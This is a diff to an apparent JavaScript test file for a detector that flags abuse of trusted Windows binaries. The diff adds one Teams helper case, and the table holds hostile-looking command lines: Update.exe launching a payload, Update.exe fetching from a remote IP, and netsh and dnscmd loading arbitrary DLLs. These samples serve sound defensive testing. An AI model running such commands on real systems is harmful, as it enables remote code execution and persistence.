@@ -14,6 +14,7 @@ describe('a program that everybody uses all day', () => {
       `${TEAMS}\\current\\Teams.exe`,
     ],
     ['update.exe', `${TEAMS}\\Update.exe --processStart payload.exe`, `${TEAMS}\\Update.exe`],
+    ['update.exe', `${TEAMS}\\Update.exe --processStart TeamsHelper.exe`, `${TEAMS}\\Update.exe`],
     ['update.exe', `${TEAMS}\\Update.exe --update=http://203.0.113.7/a`, `${TEAMS}\\Update.exe`],
     ['netsh.exe', 'netsh add helper C:\\Temp\\a.dll', 'C:\\Windows\\System32\\netsh.exe'],
     ['dnscmd.exe', 'dnscmd . /config /serverlevelplugindll C:\\a.dll', 'C:\\Windows\\System32\\dnscmd.exe'],
